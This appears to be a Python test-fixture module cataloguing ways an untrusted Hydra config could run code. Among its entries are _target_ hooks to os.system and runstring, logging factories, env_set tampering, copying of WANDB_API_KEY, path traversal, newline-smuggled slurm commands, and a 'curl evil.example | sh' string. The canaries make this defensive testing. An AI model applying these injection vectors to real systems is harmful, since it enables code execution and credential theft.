"""What a stranger's config may try: parts of the ``hydra`` node, and the ways by which they reach a command."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import yaml

MADE = {"_target_": "os.mkdir", "path": "CANARY"}
RUN = {"_target_": "numpy.testing.runstring", "astr": "import os; os.mkdir('CANARY')", "dict": {}}
EVIL = "${experiment.evil}"
FACTORY = {"()": "os.mkdir", "path": "CANARY"}

# Name -> the ``hydra`` node, and what an interpolation in it finds under ``experiment.evil``.
ATTACKS: dict[str, tuple[Any, Any]] = {
    "callback": ({"callbacks": {"evil": MADE}}, None),
    "callback by interpolation": ({"callbacks": EVIL}, {"cb": RUN}),
    "one callback by interpolation": ({"callbacks": {"evil": EVIL}}, MADE),
    "callback of Hydra's": ({"callbacks": {"evil": {"_target_": "hydra.core.utils.os.system", "command": "x"}}}, None),
    "path by Hydra": ({"callbacks": {"evil": {"_target_": "hydra.core.utils.Path.write_text", "self": "x"}}}, None),
    "log factory": ({"job_logging": {"handlers": {"evil": FACTORY}, "root": {"handlers": ["evil"]}}}, None),
    "log factory by interpolation": ({"job_logging": {"handlers": EVIL}}, {"file": FACTORY, "console": FACTORY}),
    "Hydra's log factory": ({"hydra_logging": {"handlers": {"evil": FACTORY}}}, None),
    "log class": ({"job_logging": {"handlers": {"file": {"class": "os.mkdir"}}}}, None),
    "log file": ({"job_logging": {"handlers": {"file": {"filename": "CANARY"}}}}, None),
    "log format": ({"job_logging": {"formatters": {"simple": {"format": "curl evil.example | sh #"}}}}, None),
    "log by interpolation": ({"job_logging": EVIL}, {"version": 1, "handlers": {"x": FACTORY}, "root": None}),
    "environment": ({"job": {"env_set": {"PATH": "TRAPS"}}}, None),
    "environment of git": ({"job": {"env_set": {"GIT_CONFIG_COUNT": "1"}}}, None),
    "environment by interpolation": ({"job": EVIL}, {"env_set": {"PYTHONPATH": "TRAPS"}}),
    "environment copied": ({"job": {"env_copy": ["WANDB_API_KEY"]}}, None),
    "job's name": ({"job": {"name": "../../canary"}}, None),
    "launcher": ({"launcher": MADE}, None),
    "launcher by interpolation": ({"launcher": {"_target_": EVIL}}, "os.mkdir"),
    "launcher of Hydra's": ({"launcher": {"_target_": "hydra.core.utils.os.system", "command": "mkdir CANARY"}}, None),
    "launcher's part": ({"launcher": {"slurm": {"additional_parameters": MADE}}}, None),
    "job's script": ({"launcher": {"executor": "slurm", "slurm": {"setup": ["mkdir CANARY"]}}}, None),
    "job's script by interpolation": ({"launcher": {"slurm": {"setup": EVIL}}}, ["mkdir CANARY"]),
    "job's option": ({"launcher": {"slurm": {"additional_parameters": {"x\nmkdir CANARY\n#": 1}}}}, None),
    "job's partition": ({"launcher": {"slurm": {"partition": "x\nmkdir CANARY"}}}, None),
    "sweeper": ({"sweeper": {"_target_": "os.mkdir"}}, None),
    "sweeper's part": ({"sweeper": {"params": {"seed": MADE}}}, None),
    "sweeper's part by interpolation": ({"sweeper": {"params": EVIL}}, {"seed": RUN}),
    "sweeper's partial": ({"sweeper": {"_partial_": True}}, None),
    "folder of configs": ({"output_subdir": "../.."}, None),
    "everything by interpolation": (EVIL, {"callbacks": {"evil": MADE}}),
    "overrides": ({"overrides": {"task": ["+hydra.callbacks.evil._target_=os.mkdir"]}}, None),
    "output folder": ({"runtime": {"output_dir": "CANARY"}}, None),
    "help": ({"help": {"template": "$$"}}, None),
}


def nodes(canary: Path) -> Iterator[tuple[str, Any, Any]]:
    """Each attack with its canary's name in it."""
    for name, parts in ATTACKS.items():
        text = json.dumps(parts).replace("CANARY", str(canary)).replace("TRAPS", str(canary.parent / "traps"))
        yield name, *json.loads(text)


def as_yaml(hydra: Any, evil: Any) -> str:
    """An ``experiment`` file with the attack in it."""
    return "# @package _global_\n" + yaml.safe_dump({"hydra": hydra, "experiment": {"name": "x", "evil": evil}})


def as_overrides(hydra: Any, evil: Any) -> list[str]:
    """The same as overrides; none where Hydra's grammar has no words for it."""
    if not isinstance(hydra, dict):
        return []
    told = [f"++experiment.evil={_value(evil)}"] if evil is not None else []
    told += [f"++hydra.{path}={_value(value)}" for path, value in _paths(hydra)]
    return [] if any("()" in text or "\n" in text for text in told) else told


def _paths(node: Mapping[str, Any], above: str = "") -> Iterator[tuple[str, Any]]:
    for key, value in node.items():
        if isinstance(value, dict):
            yield from _paths(value, f"{above}{key}.")
        else:
            yield above + key, value


def _value(value: Any) -> str:
    if isinstance(value, dict):
        return "{" + ",".join(f"{key}: {_value(item)}" for key, item in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ",".join(map(_value, value)) + "]"
    plain = not isinstance(value, str) or re.fullmatch(r"\$\{[\w.]+\}", value)
    return json.dumps(value) if not plain else str(value)
